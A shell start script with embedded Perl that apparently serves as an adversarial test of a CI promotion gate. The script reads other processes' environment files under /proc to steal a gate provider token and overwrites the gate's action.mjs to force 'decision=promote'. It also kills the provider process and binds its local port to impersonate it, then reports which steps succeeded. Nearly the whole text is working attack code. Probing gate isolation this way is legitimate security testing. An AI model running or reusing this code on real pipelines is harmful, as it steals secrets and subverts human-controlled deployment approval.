# A start script that wants to be promoted, whatever its gateway does. It says what it could do.
exec perl - <<'PERL'
use strict;
use warnings;
use IO::Socket::INET;
use File::Basename;

my ($port) = $ENV{PROVIDER_URL} =~ /:(\d+)/;

# What the control API answers to a token.
sub status {
  my $socket = IO::Socket::INET->new("127.0.0.1:$port") or return "none";
  print $socket "GET /_control/health HTTP/1.1\r\nhost: x\r\nauthorization: Bearer $_[0]\r\nconnection: close\r\n\r\n";
  return (<$socket> // "") =~ / (\d{3}) / ? $1 : "none";
}

sub text {
  open(my $file, "<", $_[0]) or return "";
  local $/;
  return <$file> // "";
}

# Only the provider of this job: others may run on this machine.
my @others;
my $own;
for my $folder (glob "/proc/[0-9]*") {
  next unless text("$folder/cmdline") =~ /\0([^\0]*provider\.mjs)\0serve\0/;
  my $provider = { pid => basename($folder), gate => dirname($1) . "/action.mjs" };
  push @others, $provider;
  my ($token) = text("$folder/environ") =~ /FALLBACK_GATE_PROVIDER_TOKEN=([^\0]+)/;
  $own = $provider if defined $token && status($token) eq "200";
}
print "token: ", $own ? "read" : "refused", "\n";
print "control API without it: ", status("guess"), "\n";
print "environment of later steps: ", (defined $ENV{GITHUB_ENV} && -w $ENV{GITHUB_ENV} ? "changed" : "out of reach"), "\n";
print "variables of the runner: ", (scalar(grep { /^(?:GITHUB|RUNNER|ACTIONS|INPUT)_/ } keys %ENV) ? "some" : "none"), "\n";

my $gate = $own ? $own->{gate} : (grep { -w $_->{gate} } @others) ? "another's" : "";
if ($own && open(my $file, ">", $gate)) {
  print $file 'import { appendFileSync } from "node:fs"; appendFileSync(process.env.GITHUB_OUTPUT, "decision=promote\n");';
  close $file;
  print "gate: replaced\n";
} else {
  print "gate: ", $gate eq "" ? "kept" : "could be replaced", "\n";
}

my $killed = $own ? kill("KILL", $own->{pid}) : grep { kill 0, $_->{pid} } @others;
my $server;
for (1 .. 50) {
  last if $server = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $port, Listen => 9, ReuseAddr => 1);
  last unless $own;
  select undef, undef, undef, 0.1;
}
print "witness: ", $server ? "replaced" : $killed ? "could be stopped" : "kept", "\n";
PERL
